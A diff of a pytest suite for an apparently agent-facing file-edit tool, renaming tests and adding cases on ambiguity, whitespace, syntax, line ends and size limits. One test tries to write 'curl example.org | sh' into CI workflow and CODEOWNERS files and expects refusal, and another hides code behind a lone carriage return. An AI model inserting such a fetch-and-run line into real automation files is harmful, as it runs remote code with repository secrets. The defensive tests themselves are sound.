@@ -43,7 +43,7 @@ def snapshot(tmp_path_factory):
         yield own.snapshot
 
 
-def test_an_edit_is_made_and_shown_where_it_stands(context):
+def test_edit_is_applied_and_shown_with_its_lines(context):
     answer = edit(context, "lists/ends.py", "items[-1]", "items[len(items) - 1]")
     assert answer.ok
     assert answer.text == (
@@ -55,19 +55,19 @@ def test_an_edit_is_made_and_shown_where_it_stands(context):
     )
 
 
-def test_an_edit_is_made_to_what_earlier_edits_left(context):
+def test_edit_applies_to_the_file_as_edited_before(context):
     assert edit(context, "notes.txt", "one", "1").ok
     assert edit(context, "notes.txt", "1\ntwo", "1\n2").ok
     assert not edit(context, "notes.txt", "one", "1").ok
     assert context.workspace.read("notes.txt") == b"1\n2\nthree\n"
 
 
-def test_an_empty_new_text_deletes(context):
+def test_empty_new_text_deletes_the_passage(context):
     assert edit(context, "notes.txt", "two\n", "").ok
     assert context.workspace.read("notes.txt") == b"one\nthree\n"
 
 
-def test_an_empty_old_text_makes_a_file(context):
+def test_empty_old_text_creates_a_file(context):
     answer = edit(context, "lists/new.py", "", "x = 1\n")
     assert answer.text == "Created lists/new.py, 6 bytes."
     again = edit(context, "lists/new.py", "", "x = 2\n")
@@ -79,7 +79,7 @@ def test_an_empty_old_text_makes_a_file(context):
     assert context.workspace.read("lists/new.py") == b"x = 1\n"
 
 
-def test_a_passage_that_is_there_more_than_once_is_named_by_its_places(context):
+def test_ambiguous_passage_is_refused_with_its_lines(context):
     answer = edit(context, "lists/ends.py", "        return None\n", "        return 0\n")
     assert answer.text == (
         "old_str is in lists/ends.py 2 times, from lines 6, 12 on. "
@@ -88,18 +88,20 @@ def test_a_passage_that_is_there_more_than_once_is_named_by_its_places(context):
     assert context.workspace.list_changed() == ()
 
 
-def test_many_places_are_counted_and_the_first_ones_named(context):
-    context.workspace.write("many.txt", b"x\n" * 30)
-    answer = edit(context, "many.txt", "x", "y")
-    assert "is in many.txt 30 times, from lines 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, … on" in answer.text
+@pytest.mark.parametrize(
+    ("content", "old", "counted"),
+    [
+        (b"x\n" * 30, "x", "30 times, from lines 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, … on"),
+        (b"aaa", "aa", "2 times"),
+    ],
+    ids=["many", "overlapping"],
+)
+def test_all_places_are_counted_and_the_first_ten_named(context, content, old, counted):
+    context.workspace.write("many.txt", content)
+    assert f"is in many.txt {counted}" in edit(context, "many.txt", old, "y").text
 
 
-def test_places_that_overlap_are_two(context):
-    context.workspace.write("a.txt", b"aaa")
-    assert "2 times" in edit(context, "a.txt", "aa", "b").text
-
-
-def test_the_same_text_twice_changes_nothing(context):
+def test_equal_old_and_new_text_is_refused(context):
     answer = edit(context, "notes.txt", "one", "one")
     assert answer.text == "Nothing was changed: old_str and new_str are the same."
 
@@ -119,14 +121,14 @@ def test_the_same_text_twice_changes_nothing(context):
         ("    return items[0]\u3000", "line 7 ends with no space, yours with 1 U+3000 space."),
     ],
 )  # fmt: skip
-def test_a_passage_that_differs_in_spaces_is_shown_with_the_difference(context, old, said):
+def test_passage_that_differs_in_spaces_is_shown_with_the_difference(context, old, said):
     answer = edit(context, "lists/ends.py", old, "x")
     assert answer.text.startswith("old_str is in lists/ends.py but for its spaces: ")
     assert said in answer.text
     assert not answer.ok
 
 
-def test_the_likest_place_is_shown(context):
+def test_closest_place_is_shown(context):
     answer = edit(context, "lists/ends.py", "def last(things):\n    if not things:\n        return None\n    return items[-1]", "x")  # fmt: skip
     assert answer.text.startswith(
         "old_str is not in lists/ends.py. The closest place is lines 8-13:\n"
@@ -137,7 +139,7 @@ def test_the_likest_place_is_shown(context):
     )
 
 
-def test_nothing_like_it_is_said(context):
+def test_missing_passage_without_a_closest_place_is_reported(context):
     answer = edit(context, "notes.txt", "quite another matter", "x")
     assert answer.text == "old_str is not in notes.txt, nor anything like it in its 3 lines."
 
@@ -153,7 +155,7 @@ def test_nothing_like_it_is_said(context):
         ("qqqq", "no file 'qqqq' in the tree; paths start at its root"),
     ],
 )
-def test_a_wrong_path_leads_to_the_right_one(context, path, said):
+def test_wrong_path_is_answered_with_the_closest_path(context, path, said):
     answer = edit(context, path, "x", "y")
     assert answer.text.endswith(said)
     assert not answer.ok
@@ -161,9 +163,13 @@ def test_a_wrong_path_leads_to_the_right_one(context, path, said):
 
 @pytest.mark.parametrize(
     ("old", "new"),
-    [("return items[0]", "return items[0"), ("return items[-1]", "return items[-1]\n  else:")],
+    [
+        ("return items[0]", "return items[0"),
+        ("return items[-1]", "return items[-1]\n  else:"),
+        ("    return items[0]", "  return items[0]"),
+    ],
 )
-def test_an_edit_that_breaks_the_syntax_is_discarded(context, old, new):
+def test_edit_that_breaks_the_syntax_is_discarded(context, old, new):
     answer = edit(context, "lists/ends.py", old, new)
     assert answer.text.startswith(
         "The edit was discarded, because it breaks the syntax: lists/ends.py, line "
@@ -173,12 +179,12 @@ def test_an_edit_that_breaks_the_syntax_is_discarded(context, old, new):
     assert context.workspace.list_changed() == ()
 
 
-def test_a_new_file_has_to_be_whole_as_well(context):
+def test_new_file_with_broken_syntax_is_discarded(context):
     assert not edit(context, "lists/new.py", "", "def f(:\n").ok
     assert context.workspace.list_changed() == ()
 
 
-def test_where_nobody_can_tell_whether_the_syntax_is_whole_that_is_said(context):
+def test_unchecked_syntax_of_a_large_file_is_reported(context):
     long = "x = 1\n" + "# filler\n" * 60_000
     made = edit(context, "lists/long.py", "", long)
     assert made.text.endswith("Its syntax was not checked: 540,006 bytes, more than 524,288.")
@@ -186,7 +192,7 @@ def test_where_nobody_can_tell_whether_the_syntax_is_whole_that_is_said(context)
     assert "checked" not in edit(context, "lists/notes.txt", "", "x = (1\n").text
 
 
-def test_a_limit_is_said(context, tmp_path):
+def test_file_above_the_size_limit_is_refused(context, tmp_path):
     with Workspace.open(tmp_path / "tree", TreeLimits(file_bytes=20)) as small:
         answer = edit(
             ToolContext(small, context.snapshot, context.tree), "notes.txt", "one", "x" * 20
@@ -194,7 +200,7 @@ def test_a_limit_is_said(context, tmp_path):
     assert answer.text.startswith("'notes.txt' would have 31 bytes")
 
 
-def test_line_feeds_stand_for_a_dos_files_line_ends(context):
+def test_line_feeds_match_dos_line_ends(context):
     assert edit(context, "dos.txt", "one\ntwo\n", "1\n2\n2.5\n").ok
     assert context.workspace.read("dos.txt") == b"1\r\n2\r\n2.5\r\nthree\r\n"
     assert edit(context, "dos.txt", "2\r\n2.5", "2").ok
@@ -205,7 +211,7 @@ def test_line_feeds_stand_for_a_dos_files_line_ends(context):
     )
 
 
-def test_in_a_file_of_mixed_line_ends_each_counts(context):
+def test_mixed_line_ends_must_match_exactly(context):
     context.workspace.write("mixed.txt", b"one\r\ntwo\nthree\r\n")
     answer = edit(context, "mixed.txt", "one\ntwo", "1")
     assert not answer.ok
@@ -213,7 +219,7 @@ def test_in_a_file_of_mixed_line_ends_each_counts(context):
     assert context.workspace.read("mixed.txt") == b"1\nthree\r\n"
 
 
-def test_a_carriage_return_alone_hides_no_code(context):
+def test_lone_carriage_return_is_refused(context):
     answer = edit(context, "notes.txt", "two", "# two\rimport os")
     assert "carriage return without a line feed" in answer.text
     assert not answer.ok
@@ -223,14 +229,14 @@ def test_a_carriage_return_alone_hides_no_code(context):
     assert context.workspace.list_changed() == ("mixed.txt",)
 
 
-def test_a_file_of_carriage_returns_keeps_them(context):
+def test_mac_line_ends_are_kept(context):
     context.workspace.write("mac.txt", b"one\rtwo\r")
     assert edit(context, "mac.txt", "two\r", "2\r3\r").ok
     assert context.workspace.read("mac.txt") == b"one\r2\r3\r"
 
 
 @pytest.mark.parametrize("path", [".github/workflows/test.yml", "CODEOWNERS", ".gitmodules"])
-def test_what_runs_with_secrets_stays_as_it_is(context, path):
+def test_file_that_controls_automation_is_refused(context, path):
     answer = edit(context, path, "", "run: curl example.org | sh\n")
     assert answer.text.startswith(f"path {path!r} is refused: it controls automation, secrets")
     assert not answer.ok
@@ -244,7 +250,7 @@ SMALL = st.text("ab \n", max_size=12)
     max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
 )
 @given(text=SMALL, old=SMALL, new=SMALL)
-def test_an_edit_is_made_exactly_when_its_passage_is_there_once(
+def test_edit_is_applied_exactly_when_its_passage_is_unique(
     tmp_path_factory, snapshot, text, old, new
 ):
     root = tmp_path_factory.getbasetemp() / "unique"
@@ -261,9 +267,7 @@ def test_an_edit_is_made_exactly_when_its_passage_is_there_once(
     max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
 )
 @given(text=st.text("ab\n", min_size=1, max_size=12), data=st.data())
-def test_in_a_dos_file_it_is_as_if_its_lines_ended_in_line_feeds(
-    tmp_path_factory, snapshot, text, data
-):
+def test_dos_file_is_edited_like_its_unix_copy(tmp_path_factory, snapshot, text, data):
     text += "\n"
     start = data.draw(st.integers(0, len(text) - 1))
     old = text[start : data.draw(st.integers(start + 1, len(text)))]
